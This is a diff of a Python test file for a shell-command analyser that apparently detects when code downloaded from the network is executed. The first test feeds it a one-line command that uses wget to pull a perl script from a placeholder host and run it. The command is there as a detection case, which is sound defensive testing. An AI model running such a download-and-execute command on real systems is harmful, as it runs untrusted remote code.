@@ -389,12 +389,12 @@ def test_python_directory_entries_joined_to_their_root_are_its_glob(code: str, a
 
 
 def test_inline_code_from_a_download_is_downloaded_code(tmp_path: Path) -> None:
-    (run,) = [e for e in ops('perl -e "$(wget -qO- https://x.example.net/p.pl)"', tmp_path, "exec")]
+    (run,) = ops('perl -e "$(wget -qO- https://x.example.net/p.pl)"', tmp_path, "exec")
     assert (run["known"], run.get("flow"), run.get("through")) == (False, "fetch", "substitution")
 
 
 def test_inline_code_quoted_whole_is_the_languages_own(tmp_path: Path) -> None:
-    (run,) = [e for e in ops("perl -e 'my $x = 1; print $x'", tmp_path, "exec")]
+    (run,) = ops("perl -e 'my $x = 1; print $x'", tmp_path, "exec")
     assert run["known"] is True and "flow" not in run
 
 
